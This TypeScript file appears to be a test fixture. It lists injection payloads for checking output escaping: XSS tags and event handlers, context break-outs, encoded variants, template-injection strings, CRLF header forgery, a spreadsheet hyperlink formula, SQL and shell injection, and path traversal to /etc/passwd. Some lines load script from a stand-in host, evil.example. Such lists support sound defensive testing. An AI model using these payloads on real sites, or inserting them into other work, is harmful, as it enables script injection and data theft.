/**
 * Texts that run a script if they become markup, a style sheet, a template or code. Each would call `pwn()`.
 *
 * Modelled on: OWASP's XSS filter evasion cheat sheet; PortSwigger's cross-site scripting cheat sheet; the Big List of
 * Naughty Strings ("Script Injection"); html5sec.org; M. Heiderich et al., "mXSS Attacks" (2013); PortSwigger, "Server-side
 * template injection" and "Client-side template injection"; OWASP's cheat sheet on log injection.
 */

/** Elements and attributes that run a script. */
const ELEMENTS: readonly string[] = [
  '<script>pwn()</script>',
  '<SCRIPT>pwn()</SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,pwn()"></script>',
  '<script type=module>pwn()</script>',
  '<script/x>pwn()</script>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<script\u0000>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '<img/src=x/onerror=pwn()>',
  '<img src=x onerror="pwn()"//',
  '<img src=`x` onerror=pwn()>',
  '<IMG SRC=x ONERROR=pwn()>',
  '<img src=x:x onerror\n=\npwn()>',
  '<img srcset=x onerror=pwn()>',
  '<image src=x onerror=pwn()>',
  '<svg onload=pwn()>',
  '<svg/onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:pwn()>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwn()>#x"/>',
  '<svg><style><img src=x onerror=pwn()></style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
  '<math href=javascript:pwn()>x</math>',
  '<iframe src=javascript:pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<object data=javascript:pwn()>',
  '<embed src=javascript:pwn()>',
  '<a href=javascript:pwn()>x</a>',
  '<a href="java&#10;script:pwn()">x</a>',
  '<form action=javascript:pwn()><button>x</button></form>',
  '<button formaction=javascript:pwn()>x</button>',
  '<input autofocus onfocus=pwn()>',
  '<select autofocus onfocus=pwn()>',
  '<textarea autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()>',
  '<video><source onerror=pwn()></video>',
  '<audio src onloadstart=pwn()>',
  '<body onload=pwn()>',
  '<marquee onstart=pwn()>',
  '<p style="animation:x" onanimationstart=pwn()>',
  '<x onclick=pwn() tabindex=1 autofocus onfocus=pwn()>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example/>',
  '<template shadowrootmode=open><script>pwn()</script></template>',
  '<slot onslotchange=pwn()></slot>',
  '<dialog open oncancel=pwn()>',
  '<div popover onbeforetoggle=pwn()>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
]

/** Texts that end the surrounding context and continue with an attack. */
const BREAK_OUTS: readonly string[] = [
  '"><script>pwn()</script>',
  "'><script>pwn()</script>",
  '" onmouseover="pwn()" x="',
  "' onfocus='pwn()' autofocus x='",
  '` onerror=`pwn()',
  '</title><script>pwn()</script>',
  '</textarea><script>pwn()</script>',
  '</style><script>pwn()</script>',
  '</script><script>pwn()</script>',
  '--><script>pwn()</script>',
  '--!><img src=x onerror=pwn()>',
  ']]><script>pwn()</script>',
  '<!--<script>pwn()//-->',
  '<![CDATA[<script>pwn()</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>',
  '</template></div><img src=x onerror=pwn()>',
  "';pwn();//",
  '";pwn();//',
  '\\";pwn();//',
  '`;pwn();//',
  '\u2028pwn()\u2029',
  '*/pwn()/*',
  ');pwn();(',
]

/** Markup whose dangerous characters are encoded. */
const ENCODED: readonly string[] = [
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '&#60;script&#62;pwn()&#60;/script&#62;',
  '&#x3c;img src=x onerror=pwn()&#x3e;',
  '&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;',
  '%3Cscript%3Epwn()%3C/script%3E',
  '%253Cscript%253Epwn()%253C/script%253E',
  '\\u003cscript\\u003epwn()\\u003c/script\\u003e',
  '\\x3cscript\\x3epwn()\\x3c/script\\x3e',
  '+ADw-script+AD4-pwn()+ADw-/script+AD4-',
  '\uff1cscript\uff1epwn()\uff1c/script\uff1e',
  '\u00bcscript\u00bepwn()\u00bc/script\u00be',
  '<\u200bscript>pwn()</script>',
]

/** Templates for libraries that a host page may run over its document, and for our text library. */
const TEMPLATES: readonly string[] = [
  '{{constructor.constructor("pwn()")()}}',
  '{{$on.constructor("pwn()")()}}',
  '${pwn()}',
  '#{pwn()}',
  '<%= pwn() %>',
  '{%- pwn() -%}',
  '[[pwn()]]',
  '{constructor}',
  '{__proto__}',
  '{title:string|constructor}',
  '{{a|b}}',
  '{{a:b|c:d}}',
  '[words](javascript:pwn())',
  '![x](javascript:pwn())',
  '{product}',
]

/** Lines that forge an entry of a log, a header or a command. */
const OTHER_READERS: readonly string[] = [
  'x\r\nSet-Cookie: CsrfToken=evil',
  'x\r\n\r\n<script>pwn()</script>',
  '%c%s%o%d',
  '=HYPERLINK("https://evil.example/","x")',
  "' OR 1=1; --",
  '$(pwn)',
  '; pwn',
  '../../../../etc/passwd',
  '\u001b[31mred\u001b[0m',
]

export const HTML: readonly string[] = [
  ...ELEMENTS,
  ...BREAK_OUTS,
  ...ENCODED,
  ...TEMPLATES,
  ...OTHER_READERS,
]
